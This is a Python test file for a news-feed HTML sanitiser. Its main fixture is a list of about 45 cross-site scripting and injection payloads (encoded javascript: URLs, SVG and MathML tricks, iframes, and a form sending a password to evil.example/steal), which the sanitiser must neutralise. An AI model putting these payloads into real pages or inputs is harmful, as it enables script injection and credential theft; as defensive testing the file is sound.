"""The sanitiser on hostile HTML: every case must come out harmless."""

from __future__ import annotations

import lxml.html
import pytest

from extractors.sanitise import is_tracking_pixel, sanitise_html

BASE = "https://www.town.example/news/item-1"
SAFE_TAGS = {
    "a", "abbr", "b", "blockquote", "br", "caption", "cite", "code", "dd", "del",
    "dl", "dt", "em", "figcaption", "figure", "h2", "h3", "h4", "h5", "h6", "hr",
    "i", "img", "ins", "li", "ol", "p", "pre", "q", "s", "small", "strong", "sub",
    "sup", "table", "tbody", "td", "tfoot", "th", "thead", "time", "tr", "u", "ul",
}  # fmt: skip
SAFE_ATTRIBUTES = {"href", "title", "hreflang", "src", "alt", "width", "height"}
SAFE_ATTRIBUTES |= {"colspan", "rowspan", "scope", "datetime", "lang", "rel"}

HOSTILE = {
    "script": "<p>News<script>alert(1)</script></p>",
    "script uppercase": "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "onerror": "<img src=x onerror=alert(1)>",
    "onload on body": "<body onload=alert(1)><p>t</p></body>",
    "onmouseover": '<a href="/x" onmouseover="alert(1)">x</a>',
    "javascript link": '<a href="javascript:alert(1)">x</a>',
    "javascript mixed case": '<a href="JaVaScRiPt:alert(1)">x</a>',
    "javascript leading space": '<a href=" \tjavascript:alert(1)">x</a>',
    "javascript split by tab entity": '<a href="jav&#x09;ascript:alert(1)">x</a>',
    "javascript split by newline": '<a href="java\nscript:alert(1)">x</a>',
    "javascript decimal entities": (
        '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;'
        '&#58;alert(1)">x</a>'
    ),
    "javascript hex entities no semicolons": (
        '<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A'
        'alert(1)">x</a>'
    ),
    "javascript img src": '<img src="javascript:alert(1)">',
    "vbscript link": '<a href="vbscript:msgbox(1)">x</a>',
    "data link": (
        '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>'
    ),
    "data image": '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
    "svg onload": "<svg onload=alert(1)><circle r=1></circle></svg>",
    "svg script": "<svg><script>alert(1)</script></svg>",
    "svg animate href": (
        "<svg><a><animate attributeName=href values=javascript:alert(1) />"
        "<text>x</text></a></svg>"
    ),
    "svg use external": '<svg><use href="https://evil.example/x.svg#a"/></svg>',
    "math mglyph style": (
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>"
    ),
    "css expression": '<p style="width:expression(alert(1))">t</p>',
    "css url javascript": '<div style="background:url(javascript:alert(1))">t</div>',
    "style element": "<style>body{background:url(javascript:alert(1))}</style><p>t</p>",
    "style import": "<style>@import 'https://evil.example/x.css';</style>",
    "iframe": '<iframe src="https://evil.example/"></iframe>text',
    "iframe srcdoc": '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "object": '<object data="https://evil.example/x.swf"></object>',
    "embed": '<embed src="https://evil.example/x.swf">',
    "form action": (
        '<form action="https://evil.example/steal"><input name=p type=password>'
        "<button formaction=javascript:alert(1)>go</button></form>"
    ),
    "meta refresh": '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    "base href": '<base href="https://evil.example/"><a href="page">x</a>',
    "link stylesheet": '<link rel=stylesheet href="https://evil.example/x.css">',
    "nested encoding": "&lt;script&gt;alert(1)&lt;/script&gt;",
    "double encoded javascript": '<a href="javascript&amp;colon;alert(1)">x</a>',
    "noscript breakout": (
        '<noscript><p title="</noscript><img src=x onerror=alert(1)>">'
    ),
    "comment breakout": "<!--<img src=x onerror=alert(1)>--><p>t</p>",
    "conditional comment": "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "unclosed attribute": '<img src="x" alt="a onerror=alert(1)//',
    "template": "<template><img src=x onerror=alert(1)></template>",
    "srcset": '<img src="/a.jpg" srcset="javascript:alert(1) 1x">',
    "target blank": '<a href="https://other.example/" target="_blank">x</a>',
    "textarea": "<textarea><script>alert(1)</script></textarea>",
    "xml namespace": '<html xmlns:x="urn:x"><x:script>alert(1)</x:script></html>',
    "null byte in scheme": '<a href="java\x00script:alert(1)">x</a>',
}


def _parse(html: str) -> lxml.html.HtmlElement:
    return lxml.html.fragment_fromstring(f"<div>{html}</div>")


def _assert_harmless(html: str) -> None:
    root = _parse(html)
    for element in root.iterdescendants():
        assert element.tag in SAFE_TAGS, element.tag
        for name, value in element.attrib.items():
            assert name in SAFE_ATTRIBUTES, name
            if name in ("href", "src"):
                assert value.startswith(("https://", "http://", "mailto:")), value
            if name == "rel":
                assert value == "noopener noreferrer nofollow"


@pytest.mark.parametrize("html", HOSTILE.values(), ids=HOSTILE.keys())
def test_hostile_html_comes_out_harmless(html: str) -> None:
    _assert_harmless(sanitise_html(html, BASE))
    _assert_harmless(sanitise_html(html))


def test_script_text_is_not_kept_as_text() -> None:
    root = _parse(sanitise_html("<p>News</p><script>alert(1)</script>", BASE))

    assert root.text_content() == "News"


def test_relative_links_and_images_become_absolute_against_item_url() -> None:
    html = '<p><a href="../other">a</a><img src="/img/photo.jpg" alt="Photo"></p>'

    root = _parse(sanitise_html(html, BASE))

    assert root.find(".//a").get("href") == "https://www.town.example/other"
    assert root.find(".//img").get("src") == "https://www.town.example/img/photo.jpg"


def test_relative_links_are_dropped_without_item_url() -> None:
    root = _parse(sanitise_html('<a href="/other">a</a>'))

    assert root.find(".//a").get("href") is None


def test_base_href_in_content_does_not_redirect_relative_links() -> None:
    html = '<base href="https://evil.example/"><a href="page">x</a>'

    root = _parse(sanitise_html(html, BASE))

    assert root.find(".//a").get("href") == "https://www.town.example/news/page"


def test_links_get_rel_noopener_noreferrer_nofollow() -> None:
    root = _parse(sanitise_html('<a href="https://other.example/" rel="me">x</a>'))

    assert root.find(".//a").get("rel") == "noopener noreferrer nofollow"


def test_tracking_parameters_are_removed_from_links_and_images() -> None:
    html = (
        '<a href="/a?utm_source=rss&amp;id=7&amp;fbclid=x">a</a>'
        '<img src="/p.jpg?utm_medium=feed&amp;w=600">'
    )

    root = _parse(sanitise_html(html, BASE))

    assert root.find(".//a").get("href") == "https://www.town.example/a?id=7"
    assert root.find(".//img").get("src") == "https://www.town.example/p.jpg?w=600"


def test_mailto_links_are_kept() -> None:
    root = _parse(sanitise_html('<a href="mailto:press@town.example">mail</a>'))

    assert root.find(".//a").get("href") == "mailto:press@town.example"


@pytest.mark.parametrize(
    "image",
    [
        '<img src="/t.gif" width="1" height="1">',
        '<img src="/t.gif" width="0" height="0">',
        '<img src="/t.gif" width="1px" height="1px">',
        '<img src="/t.gif" style="width:1px;height:1px">',
        '<img src="/t.gif" style="display:none">',
        '<img src="https://pixel.wp.com/g.gif?blog=1">',
        '<img src="https://www.google-analytics.com/collect?v=1">',
        '<img src="https://feeds.feedburner.com/~r/town/~4/abc">',
        '<img src="https://stats.town.example/matomo.php?idsite=1">',
        '<img src="https://www.facebook.com/tr?id=1&amp;ev=PageView">',
    ],
)
def test_tracking_pixels_are_removed(image: str) -> None:
    root = _parse(sanitise_html(f"<p>Before{image}after</p>", BASE))

    assert root.findall(".//img") == []
    assert root.text_content() == "Beforeafter"


def test_real_images_are_kept() -> None:
    html = '<p><img src="/photo.jpg" width="640" height="1" alt="Banner"></p>'
    html += '<p><img src="/square.jpg" alt="No size given"></p>'

    root = _parse(sanitise_html(html, BASE))

    assert len(root.findall(".//img")) == 2


def test_tracking_pixel_decision_reads_attributes_and_style() -> None:
    assert is_tracking_pixel("https://a.example/x.gif", "1", "1", "")
    assert not is_tracking_pixel("https://a.example/x.gif", "1", "80", "")
    assert not is_tracking_pixel("https://a.example/x.gif", "", "", "")


def test_text_around_removed_elements_stays_escaped() -> None:
    html = '&lt;b&gt;bold&lt;/b&gt;<img src="/t.gif" width="1" height="1">'

    root = _parse(sanitise_html(html, BASE))

    assert root.text_content() == "<b>bold</b>"
    assert root.findall(".//b") == []
